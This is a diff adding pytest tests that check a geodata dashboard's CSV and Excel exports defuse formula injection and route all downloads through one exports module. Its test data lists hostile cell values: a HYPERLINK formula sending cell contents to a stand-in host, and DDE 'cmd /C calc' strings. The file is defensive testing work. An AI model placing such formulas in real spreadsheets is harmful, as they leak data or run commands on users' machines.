@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import http.server
 import io
 import json
+import re
 import sqlite3
 import struct
 import threading
@@ -13,6 +15,7 @@ import zipfile
 from pathlib import Path
 
 import geopandas as gpd
+import pandas as pd
 import pyogrio
 import pytest
 import shapely
@@ -23,6 +26,7 @@ from core.errors import ReadError
 from core.io import list_layers, read_upload
 
 HANGZHOU = (120.157, 30.267)
+ROOT = Path(__file__).resolve().parents[2]
 
 
 def zipped(files: dict[str, bytes]) -> bytes:
@@ -210,3 +214,37 @@ def test_geopackage_views_are_never_listed_or_run(tmp_path):
     assert time.monotonic() - started < 10
     with pytest.raises(ReadError, match="has no layer `slow`; its layers are: grids"):
         read_upload("cte.gpkg", data, layer="slow")
+
+
+# ---- 4. no formula injection in downloads --------------------------------------------------------
+
+HOSTILE_NAMES = ['=HYPERLINK("http://192.0.2.1/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                 "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "灯芯巷网格", "a=b"]
+
+
+def test_downloads_hold_no_cell_a_spreadsheet_would_run():
+    import openpyxl
+
+    from core import exports
+
+    table = pd.DataFrame({"name": HOSTILE_NAMES, "tickets": range(len(HOSTILE_NAMES)),
+                          "=1+1": [-1.5] * len(HOSTILE_NAMES)})
+    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(table, "=ranking")))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert [c for c in cells if c.data_type == "f"] == []
+    expected = ["'" + n for n in HOSTILE_NAMES[:7]] + HOSTILE_NAMES[7:]
+    assert [c.value for c in cells[3::3]] == [e.replace("\r", "\n") for e in expected]  # XML keeps no CR
+    assert book.active.title == "'=ranking" and cells[2].value == "'=1+1"
+    assert [c.value for c in cells[4::3]] == list(range(len(HOSTILE_NAMES)))  # numbers stay numbers
+    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["name", "tickets", "'=1+1"]
+    assert [r[0] for r in rows[1:]] == expected
+    assert rows[1][2] == "-1.5"
+
+
+def test_every_download_goes_through_core_exports():
+    sources = [p for folder in ("dashboard", "core") for p in (ROOT / folder).rglob("*.py")
+               if p.name != "exports.py"]
+    direct = [f"{p.relative_to(ROOT)}" for p in sources
+              if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter", p.read_text(encoding="utf-8"))]
+    assert direct == []
